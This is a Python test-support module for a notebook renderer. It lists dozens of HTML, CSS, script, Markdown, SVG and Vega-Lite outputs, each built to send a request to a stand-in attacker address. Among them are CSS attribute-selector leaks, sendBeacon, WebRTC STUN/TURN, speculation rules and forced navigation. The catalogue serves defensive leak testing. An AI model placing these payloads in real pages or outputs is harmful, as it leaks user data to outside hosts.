"""Ways in which an output could tell somebody else something: what test_leaks.py shows in a notebook.

TO/NAME is an address of the attacker, KIND the kernel that shows it, PORT-NAME a port of the attacker's that is not HTTP.
Each asks for its own NAME.
"""

import html

FETCH = "fetch(`TO/{}`, {{mode: `no-cors`}})"


def styled(name, style):
    return f'<p style="{style.replace("URL", f"url(TO/{name})")}">x</p>'


# Markup, without a script or a click.
MARKUP = {
    "img": '<img src="TO/img">',
    "srcset": '<img srcset="TO/srcset 1x">',
    "picture": '<picture><source srcset="TO/picture"><img></picture>',
    "style": styled("style", "background:URL"),
    "imageset": styled("imageset", "background:image-set(URL 1x)"),
    "cursor": styled("cursor", "cursor:URL,auto"),
    "content": styled("content", "content:URL"),
    "border": styled("border", "border:1px solid;border-image:URL 1"),
    "mask": styled("mask", "mask-image:URL"),
    "shape": styled("shape", "float:left;width:9px;height:9px;shape-outside:URL"),
    "listed": '<ul style="list-style-image:url(TO/listed)"><li>x</li></ul>',
    "attribute": '<style>input[value^="s"]{background:url(TO/attribute)}</style><input value="secret">',
    "variable": "<style>:root{--u:url(TO/variable)}.v{background:var(--u)}</style><p class=v>x</p>",
    "import": '<style>@import url("TO/import");</style>',
    "font": "<style>@font-face{font-family:f;src:url(TO/font)}</style><p style='font-family:f'>x</p>",
    "background": '<table background="TO/background"><tr><td>x</td></tr></table>',
    "stylesheet": '<link rel="stylesheet" href="TO/stylesheet">',
    "prefetch": '<link rel="prefetch" href="TO/prefetch">',
    "preload": '<link rel="preload" as="script" href="TO/preload">',
    "modulepreload": '<link rel="modulepreload" href="TO/modulepreload">',
    "preconnect": '<link rel="preconnect" href="http://127.0.0.1:PORT-preconnect">',
    "names": '<link rel="dns-prefetch" href="//dns-prefetch.KIND.test"><link rel="preconnect" href="//preconnect.KIND.test">'
    '<a href="https://anchor.KIND.test/">x</a>',
    "video": '<video src="TO/video" preload="auto"></video>',
    "poster": '<video poster="TO/poster"></video>',
    "audio": '<audio src="TO/audio" preload="auto"></audio>',
    "source": '<audio preload="auto"><source src="TO/source"></audio>',
    "object": '<object data="TO/object"></object>',
    "embed": '<embed src="TO/embed">',
    "input": '<input type="image" src="TO/input">',
    "svg": '<svg><image href="TO/svg" width="9" height="9"/></svg>',
    "svgstyle": '<svg><style>@import url("TO/svgstyle");</style></svg>',
    "feimage": '<svg width="9" height="9"><filter id="fe"><feImage href="TO/feimage"/></filter>'
    '<rect width="9" height="9" filter="url(#fe)"/></svg>',
    "foreign": '<svg width="9" height="9"><foreignObject width="9" height="9"><img src="TO/foreign"></foreignObject></svg>',
    "iframe": '<iframe src="TO/iframe"></iframe>',
    "srcdoc": "<iframe srcdoc='<img src=\"TO/srcdoc\">'></iframe>",
    "framed": "<iframe src='data:text/html,<img src=\"TO/framed\">'></iframe>",
    "drawn": "<object type='image/svg+xml' data='data:image/svg+xml,"
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="TO/drawn" width="9" height="9"/></svg>\'></object>',
    "portal": '<portal src="TO/portal"></portal><fencedframe src="TO/portal"></fencedframe>',
    "onerror": f'<img src="data:," onerror="{FETCH.format("onerror")}">',
    "ontoggle": f'<details open ontoggle="{FETCH.format("ontoggle")}">x</details>',
}
# What nobody holds can be collected before it has reached anybody.
HELD = "(self.held ??= []).push({});"
MADE = "document.body.append(Object.assign(document.createElement('{}'), {{{}}}))"
SCRIPTS = {
    "fetch": FETCH.format("fetch"),
    "later": "fetchLater('TO/later', {activateAfter: 0})",
    "xhr": "{const x = new XMLHttpRequest(); x.open('GET', 'TO/xhr'); x.send();}",
    "beacon": "navigator.sendBeacon('TO/beacon', 'x')",
    "websocket": "new WebSocket('TO/websocket'.replace('http', 'ws'))",
    "events": "new EventSource('TO/events')",
    "transport": HELD.format("new WebTransport('https://127.0.0.1:PORT-transport/')"),
    "imported": "import('TO/imported')",
    "included": MADE.format("script", "src: 'TO/included'"),
    "image": "new Image().src = 'TO/image'",
    "face": "new FontFace('g', 'url(TO/face)').load()",
    "hint": MADE.format("link", "rel: 'prefetch', href: 'TO/hint'"),
    "named": MADE.format("link", "rel: 'dns-prefetch', href: '//script.KIND.test'"),
    "worker": f'new Worker(URL.createObjectURL(new Blob(["{FETCH.format("worker")}"])))',
    "shared": f'new SharedWorker(URL.createObjectURL(new Blob(["{FETCH.format("shared")}"])))',
    "service": "navigator.serviceWorker.register('/files/service-KIND.js')",
    "form": "{const f = document.createElement('form'); f.action = 'TO/form'; f.target = '_blank'; document.body.append(f);"
    " f.submit();}",
    "popup": "open('TO/popup')",
    "stun": "{const c = new RTCPeerConnection({iceServers: [{urls: ['stun:127.0.0.1:PORT-stun', 'stun:stun.KIND.test']}]});"
    f" {HELD.format('c')} c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o));}}",
    "turn": "{const c = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:PORT-turn?transport=tcp', username: 'x',"
    f" credential: 'x'}}]}}); {HELD.format('c')} c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o));}}",
}
RULES = '{"prefetch": [{"urls": ["TO/rules"], "eagerness": "immediate"}]}'
SCRIPTED = {name: f"<script>{script}</script>" for name, script in SCRIPTS.items()}
SCRIPTED["rules"] = f'<script type="speculationrules">{RULES}</script>'

# What sends the page elsewhere, or changes it as a whole.
SENT = {
    "location": "location = 'TO/location'",
    "href": "location.href = 'TO/href'",
    "assign": "location.assign('TO/assign')",
    "replace": "location.replace('TO/replace')",
    "document": "document.location = 'TO/document'",
    "self": "self.location = 'TO/self'",
    "opened": "open('TO/opened', '_self')",
    "navigation": "navigation.navigate('TO/navigation')",
    "clicked": "Object.assign(document.createElement('a'), {href: 'TO/clicked'}).click()",
    "submitted": "{const f = document.createElement('form'); f.action = 'TO/submitted'; document.documentElement.append(f); f.submit();}",
    "coded": "location = \"javascript:location = 'TO/coded'\"",
    "blob": "location = URL.createObjectURL(new Blob(['<img src=TO/blob>'], {type: 'text/html'}))",
    "data": "location = 'data:text/html,<img src=TO/data>'",
    "written": "document.write('<img src=TO/written>')",
}
WHOLE = {name: f"<script>{script}</script>" for name, script in SENT.items()}
WHOLE |= {
    "onload": f'<svg onload="{FETCH.format("onload")}"></svg>',
    "refresh": '<meta http-equiv="refresh" content="0;url=TO/refresh">',
    "base": '<base href="TO/base/"><img src="x">',
    "parent": '<iframe srcdoc="<script>parent.location = `TO/parent`</script>"></iframe>',
    "policy": "<meta http-equiv=\"Content-Security-Policy\" content=\"img-src 'none'; report-uri TO/policy\"><img src=x:y>",
}
TOP = {"top": "<script>top.location = 'TO/top'</script>"}

# Other types with the same power.
OTHER = {
    "javascript": {"application/javascript": FETCH.format("javascript")},
    "markdown": {"text/markdown": "![x](TO/markdown)"},
    "language": {"text/markdown": '```x" style="background:url(TO/language)\nx\n```'},
    "formula": {"text/markdown": '  ```$" style="background:url(TO/formula)" x="$\nx\n  ```'},
    "svgimage": {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><image href="TO/svgimage"/></svg>'},
    "vega": {
        "application/vnd.vegalite.v5+json": {
            "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
            "data": {"url": "TO/vega.json"},
            "mark": "bar",
            "encoding": {},
        }
    },
}

LINKS = '<a href="TO/aaaa">aaaa</a> <a href="TO/bbbb" target="_blank">bbbb</a> <a href="TO/cccc" target="_top">cccc</a>'
# What needs a click. The second one needs a frame: clicks in it are clicks on links and a form of the frame's own.
CLICKED = [
    LINKS,
    "<style>a, button { display: inline-block; width: 40px }</style>"
    '<a href="TO/ping" ping="TO/pinged" target="_blank">eeee</a> ' + LINKS + '<form action="TO/posted" method="post" '
    'target="_blank"><button>dddd</button></form>',
]


def html_of(names):
    return [{"text/html": markup} for markup in names.values()]


def framed(markup):
    """In a frame that is part of the page: only this goes elsewhere."""
    return f'<iframe srcdoc="{html.escape(markup)}"></iframe>'


def outputs(whole):
    """All that needs no click. Without `whole` the page stays, whoever shows it."""
    every = html_of(MARKUP) + html_of(SCRIPTED) + list(OTHER.values())
    every += html_of({name: framed(markup) for name, markup in WHOLE.items()})
    return every + (html_of(WHOLE) + html_of(TOP) if whole else [])
